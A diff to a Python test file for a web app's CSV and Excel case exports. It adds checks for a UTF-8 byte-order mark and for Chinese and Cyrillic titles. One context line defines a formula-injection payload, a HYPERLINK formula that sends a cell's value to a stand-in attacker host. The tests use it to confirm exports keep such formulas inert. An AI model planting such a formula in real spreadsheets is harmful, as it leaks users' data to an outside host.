@@ -3,8 +3,11 @@ spreadsheet would run as formulas stay inert; every export is audited."""
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
+import json
+import sqlite3
 from pathlib import Path
 
 from openpyxl import load_workbook
@@ -16,7 +19,9 @@ HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def _rows(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text)))
+    # every CSV export starts with UTF-8's byte-order mark: Excel reads UTF-8 by it
+    assert text.startswith("\ufeff"), "no byte-order mark"
+    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
 
 
 def test_csv_exports_follow_the_search_and_filters(db: Path) -> None:
@@ -113,3 +118,24 @@ def test_the_cases_export_names_the_lead_the_partners_and_links_the_record(db: P
     book = load_workbook(io.BytesIO(client.get("/cases.xlsx").content))
     header = [c.value for c in book["cases"][1]]
     assert {"principal investigator", "partners", "in the RIS"} <= set(header)
+
+
+def test_csv_export_carries_the_byte_order_mark_excel_reads_utf8_by(db: Path) -> None:
+    """Without it Excel opened the export in the ANSI code page: 哈尔滨 and Cyrillic garbled."""
+    with sqlite3.connect(db) as conn:
+        body = json.loads(
+            conn.execute("SELECT body FROM record_subjects WHERE record_id = 'p-1'").fetchone()[0]
+        )
+        body["project"]["title"] = "哈尔滨工程大学 · Московский физико-технический институт"
+        conn.execute(
+            "UPDATE record_subjects SET body = ? WHERE record_id = 'p-1'", (json.dumps(body),)
+        )
+    client = app_for(db)
+    login(client, "viewer")
+    raw = client.get("/cases.csv?table=cases").content
+    assert raw.startswith(codecs.BOM_UTF8)
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert "哈尔滨工程大学 · Московский физико-технический институт" in {
+        v for row in rows for v in row.values()
+    }
+    assert next(iter(rows[0])) == "case"  # the first header is the column's, not "\ufeffcase"
